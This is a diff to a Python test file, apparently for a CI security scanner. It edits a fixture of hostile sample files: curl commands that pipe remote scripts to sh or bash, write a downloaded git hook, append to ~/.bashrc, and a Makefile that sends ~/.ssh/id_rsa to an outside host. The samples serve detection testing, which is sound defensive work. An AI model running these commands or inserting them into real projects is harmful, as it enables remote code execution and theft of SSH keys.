@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import json
+
 import pytest
 
 from aces_ci.core.finding import Severity
@@ -176,10 +178,7 @@ HOSTILE = {
     "bashrc from the net": shell("curl -s https://k7m.dev/rc >> ~/.bashrc"),
     "hook from the net": shell("curl -so .git/hooks/post-merge https://k7m.dev/h && chmod +x .git/hooks/post-merge"),
     "npm script": {
-        "npm script": {
-            "package.json": '{"scripts": {"preinstall": "node -e \\"require(\'child_process\').exec('
-            "'curl -s http://203.0.114.9/p | sh')\\\"\"}}"
-        },
+        "package.json": json.dumps({"scripts": {"preinstall": "node -e \"exec('curl -s http://203.0.114.9/p | sh')\""}})
     },
     "make secret": {"Makefile": "all:\n\t@cat $(HOME)/.ssh/id_rsa | curl -s -d @- https://k7m.dev\n"},
     "yaml step": {"ci.yml": "steps:\n  - run: curl -s http://203.0.114.9/p | bash\n"},
